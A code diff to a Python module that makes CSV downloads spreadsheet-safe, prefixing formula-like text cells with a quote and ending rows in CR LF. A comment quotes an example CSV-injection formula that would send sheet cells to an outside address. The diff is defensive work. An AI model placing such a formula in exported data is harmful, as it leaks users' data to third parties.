@@ -140,10 +140,29 @@ def message(err: Exception) -> str:
     return plain(error_text(err) if isinstance(err, UserError) else str(err))
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula (OWASP, CSV injection):
+# =HYPERLINK("http://…/?leak="&A1) in an uploaded text would send the sheet's cells away.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+
+
+def spreadsheet_safe(cell: object) -> object:
+    """A text cell a spreadsheet shows rather than runs: one that starts like a formula gets a
+    leading single quote, which the spreadsheet hides. Numbers stay numbers, a text that is a
+    plain number ('-1') too."""
+    if isinstance(cell, str) and cell.startswith(FORMULA_START):
+        return cell if PLAIN_NUMBER.fullmatch(cell) else "'" + cell
+    return cell
+
+
 def csv_bytes(frame: pd.DataFrame) -> bytes:
     """A table as the CSV every download offers: UTF-8 with a byte-order mark, so Excel reads
-    Chinese text as Chinese rather than as mojibake."""
-    return frame.to_csv(index=False).encode("utf-8-sig")
+    Chinese text as Chinese rather than as mojibake; every text cell spreadsheet-safe; rows end
+    in CR LF (RFC 4180), so a cell holding a lone CR is quoted rather than splitting its row."""
+    text = [c for c in frame.columns if pd.api.types.is_string_dtype(frame[c].dtype)]
+    if text:
+        frame = frame.assign(**{c: frame[c].map(spreadsheet_safe) for c in text})
+    return frame.to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")
 
 
 def word_to_mask(t: Trace) -> int:
